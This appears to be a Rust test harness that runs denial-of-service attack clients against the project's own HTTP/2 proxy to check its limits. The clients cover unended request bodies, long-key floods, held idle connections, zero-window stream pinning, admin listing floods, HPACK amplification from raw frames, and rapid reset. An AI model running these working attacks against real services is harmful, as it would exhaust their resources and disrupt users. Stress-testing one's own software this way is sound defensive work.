//! The attacks of issue 13 as reusable clients: each runs against a proxy
//! (or its admin listener) until a deadline and says what it saw. The hostile
//! benchmark runs them beside a normal client; the bounds tests can include
//! this file (`#[path]`) to run one in miniature.
//!
//! Every attack stops at its deadline and drops what it holds; none panics on
//! a refusal or a reset, which is what a bounded proxy answers.

#![allow(dead_code)]

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use http::{Method, Request};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{timeout_at, Instant};

/// What an attack saw: how many connections and requests it made, and the
/// statuses (or errors) that came back.
#[derive(Debug, Default)]
pub struct Seen {
    pub connections: u64,
    pub requests: u64,
    pub outcomes: BTreeMap<String, u64>,
}

impl Seen {
    fn count(&mut self, outcome: impl Into<String>) {
        *self.outcomes.entry(outcome.into()).or_default() += 1;
    }

    fn merge(&mut self, other: Seen) {
        self.connections += other.connections;
        self.requests += other.requests;
        for (k, v) in other.outcomes {
            *self.outcomes.entry(k).or_default() += v;
        }
    }
}

impl std::fmt::Display for Seen {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} conns, {} reqs", self.connections, self.requests)?;
        for (k, v) in &self.outcomes {
            write!(f, ", {k}: {v}")?;
        }
        Ok(())
    }
}

async fn h2_connect(addr: SocketAddr, builder: &h2::client::Builder) -> Result<h2::client::SendRequest<Bytes>, String> {
    let tcp = TcpStream::connect(addr).await.map_err(|e| format!("connect: {e}"))?;
    let (send, conn) = builder.handshake::<_, Bytes>(tcp).await.map_err(|e| format!("handshake: {e}"))?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    Ok(send)
}

fn request(method: Method, addr: SocketAddr, path: &str, token: Option<u64>) -> Request<()> {
    let mut req = Request::builder().method(method).uri(format!("http://{addr}{path}"));
    if let Some(token) = token {
        req = req.header("x-fencing-token", token.to_string());
    }
    req.body(()).unwrap_or_else(|e| panic!("request for {path}: {e}"))
}

/// (1) One HTTP/2 connection per `connections`, each opening `streams` fenced
/// PUTs under `prefix` without a content-length and pushing `push` bytes into
/// each, never ending them; held until `deadline`.
pub async fn h2_unended_bodies(
    addr: SocketAddr,
    prefix: &str,
    connections: usize,
    streams: usize,
    push: usize,
    deadline: Instant,
) -> Seen {
    let mut tasks = Vec::new();
    for c in 0..connections {
        let prefix = prefix.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            let mut builder = h2::client::Builder::new();
            builder.initial_window_size(1 << 20);
            let Ok(mut send) = h2_connect(addr, &builder).await else {
                seen.count("connect failed");
                return seen;
            };
            seen.connections += 1;
            let chunk = Bytes::from(vec![b'x'; push]);
            let mut held = Vec::new();
            for s in 0..streams {
                if Instant::now() >= deadline {
                    break;
                }
                let req = request(Method::PUT, addr, &format!("{prefix}body-{c}-{s}"), Some(1));
                let ready = match timeout_at(deadline, send.ready()).await {
                    Ok(Ok(ready)) => ready,
                    Ok(Err(e)) => {
                        seen.count(format!("h2: {e}"));
                        break;
                    }
                    Err(_) => break,
                };
                send = ready;
                match send.send_request(req, false) {
                    Ok((response, mut body)) => {
                        seen.requests += 1;
                        // h2 queues what the window does not take yet.
                        let _ = body.send_data(chunk.clone(), false);
                        held.push((response, body));
                    }
                    Err(e) => {
                        seen.count(format!("h2: {e}"));
                        break;
                    }
                }
            }
            // Whatever the proxy answers before the deadline (408, 413, 503...).
            for (response, _body) in &mut held {
                match timeout_at(deadline, response).await {
                    Ok(Ok(r)) => seen.count(r.status().as_str()),
                    Ok(Err(e)) => seen.count(format!("h2: {}", e.reason().map(|r| r.to_string()).unwrap_or_default())),
                    Err(_) => seen.count("no answer"),
                }
            }
            tokio::time::sleep_until(deadline).await;
            drop(held);
            seen
        }));
    }
    join(tasks).await
}

/// (2) Fenced PUTs to distinct keys of `key_bytes` bytes each, from
/// `connections` HTTP/1.1 connections, until `deadline`.
pub async fn long_keys(
    addr: SocketAddr,
    prefix: &str,
    connections: usize,
    key_bytes: usize,
    deadline: Instant,
) -> Seen {
    let mut tasks = Vec::new();
    for c in 0..connections {
        let prefix = prefix.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen { connections: 1, ..Seen::default() };
            let mut stream = None;
            let mut i = 0u64;
            let pad = "k".repeat(key_bytes.saturating_sub(prefix.len() + 24));
            while Instant::now() < deadline {
                if stream.is_none() {
                    stream = TcpStream::connect(addr).await.ok();
                    seen.connections += 1;
                }
                let Some(conn) = stream.as_mut() else { continue };
                i += 1;
                let head = format!(
                    "PUT {prefix}{c}-{i}-{pad} HTTP/1.1\r\nhost: bench\r\nx-fencing-token: 1\r\ncontent-length: 1\r\n\r\nx"
                );
                match timeout_at(deadline, http1_exchange(conn, head.as_bytes())).await {
                    Ok(Ok((status, close))) => {
                        seen.requests += 1;
                        seen.count(status);
                        if close {
                            stream = None;
                        }
                    }
                    Ok(Err(e)) => {
                        seen.count(e);
                        stream = None;
                    }
                    Err(_) => break,
                }
            }
            seen
        }));
    }
    join(tasks).await
}

/// Writes one request and reads one response: its status, and whether the
/// server closes the connection after it.
async fn http1_exchange(conn: &mut TcpStream, request: &[u8]) -> Result<(String, bool), String> {
    conn.write_all(request).await.map_err(|e| format!("write: {e}"))?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    loop {
        let n = conn.read(&mut chunk).await.map_err(|e| format!("read: {e}"))?;
        if n == 0 {
            return Err("closed".into());
        }
        buf.extend_from_slice(&chunk[..n]);
        let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else { continue };
        let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
        let status = head.split(' ').nth(1).unwrap_or("?").to_string();
        let length: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or(0);
        while buf.len() < end + 4 + length {
            let n = conn.read(&mut chunk).await.map_err(|e| format!("read: {e}"))?;
            if n == 0 {
                return Err("closed".into());
            }
            buf.extend_from_slice(&chunk[..n]);
        }
        return Ok((status, head.contains("connection: close")));
    }
}

/// (3a) `count` idle TCP connections to `addr` (the admin listener), held
/// until `deadline`.
pub async fn idle_connections(addr: SocketAddr, count: usize, deadline: Instant) -> Seen {
    let mut seen = Seen::default();
    let mut held = Vec::new();
    for _ in 0..count {
        match timeout_at(deadline, TcpStream::connect(addr)).await {
            Ok(Ok(s)) => {
                seen.connections += 1;
                held.push(s);
            }
            Ok(Err(e)) => seen.count(format!("connect: {}", e.kind())),
            Err(_) => break,
        }
    }
    tokio::time::sleep_until(deadline).await;
    seen
}

/// (3b) HTTP/2 connections with a zero receive window, each with `streams`
/// GETs under `prefix` whose responses can never be read, pinning what the
/// proxy holds for them (upstream connections) until `deadline`.
pub async fn h2_zero_window(
    addr: SocketAddr,
    prefix: &str,
    connections: usize,
    streams: usize,
    deadline: Instant,
) -> Seen {
    let mut tasks = Vec::new();
    for c in 0..connections {
        let prefix = prefix.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            let mut builder = h2::client::Builder::new();
            builder.initial_window_size(0).initial_connection_window_size(0);
            let Ok(mut send) = h2_connect(addr, &builder).await else {
                seen.count("connect failed");
                return seen;
            };
            seen.connections += 1;
            let mut held = Vec::new();
            for s in 0..streams {
                if Instant::now() >= deadline {
                    break;
                }
                send = match timeout_at(deadline, send.ready()).await {
                    Ok(Ok(ready)) => ready,
                    _ => break,
                };
                match send.send_request(request(Method::GET, addr, &format!("{prefix}zero-{c}-{s}"), None), true) {
                    Ok((response, _)) => {
                        seen.requests += 1;
                        held.push(response);
                    }
                    Err(e) => {
                        seen.count(format!("h2: {e}"));
                        break;
                    }
                }
            }
            tokio::time::sleep_until(deadline).await;
            for response in held {
                match tokio::time::timeout(Duration::from_millis(1), response).await {
                    Ok(Ok(r)) => seen.count(r.status().as_str()),
                    Ok(Err(_)) => seen.count("reset"),
                    Err(_) => seen.count("no head"),
                }
            }
            seen
        }));
    }
    join(tasks).await
}

/// (4) `loops` clients listing fences on the admin listener (`GET
/// /fences?prefix=/&limit=limit`) back to back until `deadline`.
pub async fn admin_listings(admin: SocketAddr, loops: usize, limit: usize, deadline: Instant) -> Seen {
    let mut tasks = Vec::new();
    for _ in 0..loops {
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            let head = format!("GET /fences?prefix=%2F&limit={limit} HTTP/1.1\r\nhost: bench\r\n\r\n");
            let mut stream: Option<TcpStream> = None;
            while Instant::now() < deadline {
                if stream.is_none() {
                    stream = TcpStream::connect(admin).await.ok();
                    seen.connections += 1;
                }
                let Some(conn) = stream.as_mut() else { continue };
                match timeout_at(deadline, http1_exchange(conn, head.as_bytes())).await {
                    Ok(Ok((status, close))) => {
                        seen.requests += 1;
                        seen.count(status);
                        if close {
                            stream = None;
                        }
                    }
                    Ok(Err(e)) => {
                        seen.count(e);
                        stream = None;
                    }
                    Err(_) => break,
                }
            }
            seen
        }));
    }
    join(tasks).await
}

/// (5) HPACK amplification on raw HTTP/2 frames: the first HEADERS frame adds
/// one header of `value_bytes` to the proxy's decoder table, and every request
/// then names it `repeats` times with one byte each, so a frame of a few dozen
/// bytes decodes to `repeats * value_bytes`. GETs to `path` on `connections`
/// connections until `deadline`.
pub async fn hpack_amplification(
    addr: SocketAddr,
    path: &str,
    connections: usize,
    value_bytes: usize,
    repeats: usize,
    deadline: Instant,
) -> Seen {
    let mut tasks = Vec::new();
    for _ in 0..connections {
        let path = path.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            // A connection the proxy closes is replaced, until the deadline.
            while Instant::now() < deadline {
                hpack_connection(addr, &path, value_bytes, repeats, deadline, &mut seen).await;
            }
            seen
        }));
    }
    join(tasks).await
}

/// One connection of [`hpack_amplification`], until the proxy closes it or the deadline.
async fn hpack_connection(
    addr: SocketAddr,
    path: &str,
    value_bytes: usize,
    repeats: usize,
    deadline: Instant,
    seen: &mut Seen,
) {
    let Ok(Ok(stream)) = timeout_at(deadline, TcpStream::connect(addr)).await else {
        seen.count("connect failed");
        return;
    };
    seen.connections += 1;
    let (mut read, mut write) = stream.into_split();
    // Read and drop whatever comes back, so the proxy never blocks on us.
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while let Ok(n) = read.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    });
    let mut out = BytesMut::new();
    out.put_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    // SETTINGS: a large initial window; then the ack of the proxy's
    // SETTINGS, and the connection window opened wide.
    frame(&mut out, 0x4, 0, 0, &[0x00, 0x04, 0x7f, 0xff, 0xff, 0xff]);
    frame(&mut out, 0x4, 0x1, 0, &[]);
    frame(&mut out, 0x8, 0, 0, &0x7fff_0000u32.to_be_bytes());
    let mut stream_id = 1u32;
    let mut first = true;
    while Instant::now() < deadline && stream_id < (1 << 30) {
        let mut block = BytesMut::new();
        block.put_u8(0x82); // :method GET
        block.put_u8(0x86); // :scheme http
        literal(&mut block, 0x04, path.as_bytes()); // :path
        literal(&mut block, 0x01, b"bench"); // :authority
        let mut refs = repeats;
        if first {
            // Literal with incremental indexing, new name: dynamic index 62.
            block.put_u8(0x40);
            string(&mut block, b"x-amplified");
            string(&mut block, &vec![b'a'; value_bytes]);
            refs = repeats.saturating_sub(1);
            first = false;
        }
        for _ in 0..refs {
            block.put_u8(0x80 | 62);
        }
        // END_STREAM | END_HEADERS
        frame(&mut out, 0x1, 0x5, stream_id, &block);
        stream_id += 2;
        let write = timeout_at(deadline, write.write_all(&out)).await;
        out.clear();
        match write {
            Ok(Ok(())) => seen.requests += 1,
            Ok(Err(e)) => {
                seen.count(format!("write: {}", e.kind()));
                break;
            }
            Err(_) => break,
        }
        // A breath per batch, so the attack is a stream, not one burst.
        if stream_id % 64 == 1 {
            tokio::task::yield_now().await;
        }
    }
    reader.abort();
}

fn frame(out: &mut BytesMut, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.put_slice(&len.to_be_bytes()[1..]);
    out.put_u8(kind);
    out.put_u8(flags);
    out.put_u32(stream);
    out.put_slice(payload);
}

/// An HPACK integer with an `n`-bit prefix whose other bits are `high`.
fn integer(out: &mut BytesMut, high: u8, n: u32, mut value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.put_u8(high | value as u8);
        return;
    }
    out.put_u8(high | max as u8);
    value -= max;
    while value >= 128 {
        out.put_u8((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.put_u8(value as u8);
}

fn string(out: &mut BytesMut, bytes: &[u8]) {
    integer(out, 0, 7, bytes.len());
    out.put_slice(bytes);
}

/// A literal without indexing whose name is static-table entry `name`.
fn literal(out: &mut BytesMut, name: usize, value: &[u8]) {
    integer(out, 0, 4, name);
    string(out, value);
}

/// (6) Rapid reset: on `connections` HTTP/2 connections at once, open GETs
/// under `prefix` and reset each at once, reconnecting whenever the proxy
/// closes a connection, until `deadline`.
pub async fn rapid_reset(addr: SocketAddr, prefix: &str, connections: usize, deadline: Instant) -> Seen {
    let mut tasks = Vec::new();
    for c in 0..connections {
        let prefix = prefix.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            let builder = h2::client::Builder::new();
            let mut i = 0u64;
            'connections: while Instant::now() < deadline {
                let Ok(Ok(mut send)) = timeout_at(deadline, h2_connect(addr, &builder)).await else {
                    seen.count("connect failed");
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                seen.connections += 1;
                // Checked here too: `ready` may never be pending, and then
                // the timeout around it never fires.
                while Instant::now() < deadline {
                    send = match timeout_at(deadline, send.ready()).await {
                        Ok(Ok(ready)) => ready,
                        Ok(Err(_)) => {
                            seen.count("connection closed");
                            continue 'connections;
                        }
                        Err(_) => break 'connections,
                    };
                    i += 1;
                    let req = request(Method::GET, addr, &format!("{prefix}reset-{c}-{i}"), None);
                    match send.send_request(req, true) {
                        Ok((_response, mut stream)) => {
                            seen.requests += 1;
                            stream.send_reset(h2::Reason::CANCEL);
                            if i.is_multiple_of(32) {
                                tokio::task::yield_now().await;
                            }
                        }
                        Err(_) => {
                            seen.count("connection closed");
                            continue 'connections;
                        }
                    }
                }
            }
            seen
        }));
    }
    join(tasks).await
}

async fn join(tasks: Vec<tokio::task::JoinHandle<Seen>>) -> Seen {
    let mut all = Seen::default();
    for task in tasks {
        match task.await {
            Ok(seen) => all.merge(seen),
            Err(e) => all.count(format!("attack task failed: {e}")),
        }
    }
    all
}
